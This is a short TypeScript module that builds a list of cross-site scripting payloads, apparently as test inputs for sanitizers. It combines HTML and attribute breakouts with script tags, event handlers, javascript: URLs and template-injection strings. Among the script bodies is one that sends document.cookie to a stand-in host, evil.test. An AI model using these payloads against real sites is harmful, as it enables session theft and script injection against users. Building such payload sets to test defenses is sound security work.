const scripts = ["alert(1)", "globalThis.ran=1", "document.title='ran'", "fetch('//evil.test/'+document.cookie)"];
const breakouts = ["", '">', "'>", "</title>", "</textarea>", "</script>", "--></style>", "`};"];

const shapes: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script href=data:,${script} />`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<a href=javascript:${script}>x</a>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<math><mi xlink:href="javascript:${script}">x`,
  (script) => `<style>@import'//evil.test'</style>${script}`,
  (script) => `<link rel=stylesheet href=//evil.test/x.css>${script}`,
  (script) => `javascript:${script}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<x style=animation-name:rotation onanimationstart=${script}>`,
];

/** Texts that run something where a page takes text for markup: `count` different ones, none longer than 120 characters. */
export function hostileTexts(count: number): string[] {
  const all = breakouts.flatMap((breakout) => scripts.flatMap((script) => shapes.map((shape) => breakout + shape(script))));
  const texts = [...new Set(all)].filter((text) => text.length <= 120).slice(0, count);
  if (texts.length < count) throw new RangeError(`There are ${texts.length} hostile texts only.`);
  return texts;
}
